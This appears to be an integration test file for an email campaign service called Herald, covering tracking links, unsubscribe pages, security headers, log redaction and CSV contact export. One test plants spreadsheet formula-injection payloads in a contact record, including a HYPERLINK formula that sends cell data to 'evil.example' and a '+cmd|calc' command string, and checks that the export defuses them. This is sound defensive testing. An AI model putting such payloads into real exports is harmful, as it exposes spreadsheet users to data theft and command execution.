import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import type { AccessLine, Logger } from '../../src/lib/log'
import { encodeLinkToken, encodePreviewToken, trackingKey } from '../../src/lib/tracking-token'
import { createImportWorker } from '../../src/services/imports/runner'
import { fanOut } from '../../src/webhooks/fanout'
import { createTestApp } from '../helpers/app'
import { freePort } from '../helpers/ports'
import { jsonOf, rowOf, rowsOf } from '../helpers/raw-sql'
import { eventually } from '../helpers/receiver'
import { startTestSender } from '../helpers/sender'

// The pages and links Herald serves to anyone holding a link from a message (open pixel, click
// redirect, unsubscribe page) and the contact export that ends up in a spreadsheet: over real
// HTTP, with the access log captured.

const accessLines: AccessLine[] = []
const log: Logger = {
  info(msg, fields) {
    if (msg === 'request') accessLines.push(fields as AccessLine)
  },
  warn() {},
  error() {},
}
const t = await createTestApp({ log })
startTestSender(t)
const imports = createImportWorker(t.ctx)
const port = freePort()
const base = `http://127.0.0.1:${port}`
beforeAll(() => {
  t.app.listen({ port, hostname: '127.0.0.1' })
})
afterAll(async () => {
  await t.app.stop(true)
})

const BROWSER =
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'

const hit = (method: string, path: string, init: { ua?: string; body?: string } = {}) =>
  fetch(base + path, {
    method,
    redirect: 'manual',
    headers: {
      ...(init.ua ? { 'user-agent': init.ua } : { 'user-agent': '' }),
      ...(init.body !== undefined ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
    },
    body: init.body,
  })

const clientId = await t.client('Acme')
const key = await t.key({ scopes: ['admin:*'], clientId })
const get = async (path: string) => (await t.call('GET', path, { key })).body.data
const post = async (path: string, body?: unknown) => {
  const r = await t.call('POST', path, { key, body })
  expect(r.status, r.text).toBe(200)
  return r.body.data
}

/** Sends a one-recipient campaign and returns the message and the paths of its links. */
async function sentMessage(email: string) {
  const list = await post('/api/v1/lists', { name: `L ${email}` })
  await post('/api/v1/contacts', { email, list_ids: [list.id] })
  const c = await post('/api/v1/campaigns', {
    name: 'C',
    list_id: list.id,
    subject: 'Hi',
    body_html:
      '<p><a href="https://shop.example/deal">Deal</a> <a href="{{ unsubscribe_url }}">Unsubscribe</a></p>',
  })
  await post(`/api/v1/campaigns/${c.id}/launch`, { confirm: true })
  await eventually(async () => expect((await get(`/api/v1/campaigns/${c.id}`)).status).toBe('sent'))
  const [m] = await get(`/api/v1/messages?campaign_id=${c.id}`)
  const full = await get(`/api/v1/messages/${m.id}`)
  const path = (re: RegExp) => new URL(re.exec(full.body_html)![1]!).pathname
  return {
    campaign: c,
    message: m,
    open: path(/src="([^"]+\/t\/o\/[^"]+)"/),
    click: path(/href="([^"]+\/t\/c\/[^"]+)"/),
    unsubscribe: path(/href="([^"]+\/u\/[^"]+)"/),
  }
}

// biome-ignore lint/suspicious/noExplicitAny: the events' data are inspected freely
type EventData = any

const eventsOf = async (messageId: string, type: string) =>
  (
    await rowsOf<{ data: unknown }>(
      t,
      sql`SELECT data FROM events WHERE message_id = ${messageId} AND type = ${type} ORDER BY seq`,
    )
  ).map((r) => jsonOf<EventData>(r.data))

const deliveriesOf = async (webhookId: string, type: string) =>
  (await rowOf<{ n: number }>(
    t,
    sql`SELECT CAST(count(*) AS INTEGER) AS n FROM webhook_deliveries WHERE webhook_id = ${webhookId} AND event_type = ${type}`,
  ))!.n

describe('public pages and links', () => {
  test('10. repeated opens and clicks of one message write a bounded number of events and webhook deliveries; every hit is counted on the message; the stored user agent is cut', async () => {
    const hook = await post('/api/v1/webhooks', {
      url: 'https://hooks.example/herald',
      events: ['email.opened', 'email.clicked'],
    })
    const s = await sentMessage('ann@example.com')
    // A mail privacy proxy fetches first (machine), then the reader opens, many times.
    for (let i = 0; i < 3; i++) expect((await hit('GET', s.open, { ua: 'Mozilla/5.0' })).status).toBe(200)
    const longUa = `${BROWSER} ${'x'.repeat(5000)}`
    const first = await hit('GET', s.open, { ua: longUa })
    expect(first.status).toBe(200)
    expect(first.headers.get('content-type')).toBe('image/gif')
    for (let i = 0; i < 20; i++) await hit('GET', s.open, { ua: BROWSER })

    // The same link clicked again and again, and (signed by us, as a long message's links
    // would be) 30 other links of the message each clicked.
    for (let i = 0; i < 5; i++) {
      const r = await hit('GET', s.click, { ua: BROWSER })
      expect(r.status).toBe(302)
      expect(r.headers.get('location')).toBe('https://shop.example/deal')
    }
    const signing = trackingKey(t.ctx.secretKey)
    for (let i = 0; i < 30; i++) {
      const url = `https://shop.example/item/${i}`
      const token = encodeLinkToken(signing, clientId, 'click', s.message.id, url)
      const r = await hit('GET', `/t/c/${token}`, { ua: BROWSER })
      expect(r.status).toBe(302)
      expect(r.headers.get('location')).toBe(url)
    }

    const opened = await eventsOf(s.message.id, 'email.opened')
    // One machine open and one reader's open: the first of each.
    expect(opened.map((e) => e.machine)).toEqual([true, false])
    expect(opened[1].user_agent).toHaveLength(512)
    expect(longUa.startsWith(opened[1].user_agent)).toBe(true)
    const clicked = await eventsOf(s.message.id, 'email.clicked')
    expect(clicked.length).toBeLessThanOrEqual(10)
    // The first click of each link, in order, until the bound.
    expect(clicked[0].url).toBe('https://shop.example/deal')
    expect(new Set(clicked.map((e) => e.url)).size).toBe(clicked.length)

    const detail = await get(`/api/v1/messages/${s.message.id}`)
    expect(detail).toMatchObject({ opens_count: 24, clicks_count: 35 })
    const [listed] = await get(`/api/v1/messages?campaign_id=${s.campaign.id}`)
    expect(listed).toMatchObject({ opens_count: 24, clicks_count: 35 })

    // Analytics still count the message once per step, machine opens apart.
    expect(await get(`/api/v1/campaigns/${s.campaign.id}/stats`)).toMatchObject({
      opened: 1,
      machine_opened: 1,
      clicked: 1,
    })
    // Webhook deliveries follow the events: as bounded.
    while ((await fanOut(t.ctx)).more) {}
    expect(await deliveriesOf(hook.id, 'email.opened')).toBe(2)
    expect(await deliveriesOf(hook.id, 'email.clicked')).toBe(clicked.length)
  })

  test('14. the contact export prefixes formula cells with a quote; ?raw=true gives them as stored; an exported phone imports back', async () => {
    const acme = await t.client('Export Co')
    const other = await t.client('Import Co')
    const k = await t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: acme })
    const otherKey = await t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: other })
    const hostile = {
      email: 'eve@example.com',
      first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      last_name: '@SUM(1+1)',
      company: '-2+3',
      phone: '+44 20 7946 0958',
      custom_fields: { note: '+cmd|calc', tabbed: '\t=1+1', plain: 'fine', neg: -5 },
    }
    const created = await t.call('POST', '/api/v1/contacts', { key: k, body: hostile })
    expect(created.status, created.text).toBe(200)

    const download = async (query: string) => {
      const r = await fetch(`${base}/api/v1/contacts/export${query}`, {
        headers: { authorization: `Bearer ${k}` },
      })
      expect(r.status).toBe(200)
      const text = await r.text()
      const [header, ...rows] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
      return { text, row: Object.fromEntries(header!.map((h, i) => [h, rows[0]![i]])) }
    }
    const safe = (await download('')).row
    expect(safe).toMatchObject({
      email: 'eve@example.com',
      first_name: `'${hostile.first_name}`,
      last_name: "'@SUM(1+1)",
      company: "'-2+3",
      phone: "'+442079460958",
      note: "'+cmd|calc",
      tabbed: "'\t=1+1",
      plain: 'fine',
      neg: "'-5",
    })
    // No cell of the default export starts with a character a spreadsheet reads as a formula.
    for (const v of Object.values(safe)) expect(v).not.toMatch(/^[=+\-@\t\r]/)

    const raw = await download('?raw=true')
    expect(raw.row).toMatchObject({
      first_name: hostile.first_name,
      last_name: '@SUM(1+1)',
      company: '-2+3',
      phone: '+442079460958',
      tabbed: '\t=1+1',
      neg: '-5',
    })
    expect((await t.call('GET', '/api/v1/contacts/export?raw=maybe', { key: k })).status).toBe(422)
    const doc = (await t.call('GET', '/openapi.json', { key: null })).body
    expect(
      doc.paths['/api/v1/contacts/export'].get.parameters.map((p: { name: string }) => p.name),
    ).toContain('raw')

    // The safe export imports back: the phone's quote is not part of the number.
    const res = await t.call('POST', '/api/v1/contacts/imports', {
      key: otherKey,
      raw: (await download('')).text,
      headers: { 'content-type': 'text/csv' },
    })
    expect(res.status, res.text).toBe(200)
    await imports.drain()
    const job = (await t.call('GET', `/api/v1/contacts/imports/${res.body.data.id}`, { key: otherKey })).body
      .data
    expect(job).toMatchObject({ status: 'completed', inserted: 1, skipped: 0 })
    const back = (
      await t.call('POST', '/api/v1/contacts/search', { key: otherKey, body: { query: 'eve@example.com' } })
    ).body.data[0]
    expect(back.phone).toBe('+442079460958')
  })

  test('16. tracking, unsubscribe and preview answers forbid framing, sniffing, referrers and everything a page does not need', async () => {
    const s = await sentMessage('bob@example.com')
    const tpl = await post('/api/v1/templates', {
      name: 'P',
      subject: 'Hi',
      body_html: '<a href="{{ unsubscribe_url }}">Unsubscribe</a>',
    })
    const preview = `/u/${encodePreviewToken(trackingKey(t.ctx.secretKey), tpl.id)}`
    const answers: [string, Response][] = [
      ['pixel', await hit('GET', s.open, { ua: BROWSER })],
      ['click', await hit('GET', s.click, { ua: BROWSER })],
      ['unsubscribe page', await hit('GET', s.unsubscribe)],
      ['preview page', await hit('GET', preview)],
      ['preview POST', await hit('POST', preview, { body: '' })],
      ['unknown token', await hit('GET', '/t/c/not-a-token')],
      ['unsubscribe button', await hit('POST', s.unsubscribe, { body: '' })],
      ['one-click', await hit('POST', s.unsubscribe, { body: 'List-Unsubscribe=One-Click' })],
    ]
    for (const [name, r] of answers) {
      const csp = r.headers.get('content-security-policy') ?? ''
      expect(csp, name).toContain("default-src 'none'")
      expect(csp, name).toContain("frame-ancestors 'none'")
      expect(csp, name).toContain("base-uri 'none'")
      expect(r.headers.get('x-frame-options'), name).toBe('DENY')
      expect(r.headers.get('x-content-type-options'), name).toBe('nosniff')
      expect(r.headers.get('referrer-policy'), name).toBe('no-referrer')
    }
    // The pages still work under their policy: their one inline style is allowed by its hash,
    // and the unsubscribe form may post to Herald itself.
    for (const [name, r] of answers.filter(([, r]) =>
      r.headers.get('content-type')?.startsWith('text/html'),
    )) {
      const html = await r.text()
      const style = /<style>([^<]*)<\/style>/.exec(html)![1]!
      const hash = createHash('sha256').update(style).digest('base64')
      const csp = r.headers.get('content-security-policy')!
      expect(csp, name).toContain(`style-src 'sha256-${hash}'`)
      expect(csp, name).toContain("form-action 'self'")
      expect(csp, name).not.toContain('unsafe-inline')
    }
  })

  test('16. the access log names the route, never the token in a link’s path', async () => {
    const s = await sentMessage('cy@example.com')
    accessLines.length = 0
    const tokens = [s.open, s.click, s.unsubscribe].map((p) => p.split('/').pop()!)
    await hit('GET', s.open, { ua: BROWSER })
    await hit('GET', s.click, { ua: BROWSER })
    await hit('GET', s.unsubscribe)
    await hit('POST', s.unsubscribe, { body: 'List-Unsubscribe=One-Click' })
    await hit('GET', '/t/o/not-a-token')
    // A method the route does not have is answered by the fallback, which logs too.
    await hit('PUT', s.click)
    await hit('DELETE', s.unsubscribe)
    expect(accessLines.map((l) => `${l.method} ${l.path}`)).toEqual([
      'GET /t/o/:token',
      'GET /t/c/:token',
      'GET /u/:token',
      'POST /u/:token',
      'GET /t/o/:token',
      'PUT /t/c/:token',
      'DELETE /u/:token',
    ])
    const logged = JSON.stringify(accessLines)
    for (const token of tokens) expect(logged).not.toContain(token)
    // Other paths are logged as they are.
    await hit('GET', '/api/v1/health')
    expect(accessLines.at(-1)!.path).toBe('/api/v1/health')
  })
})
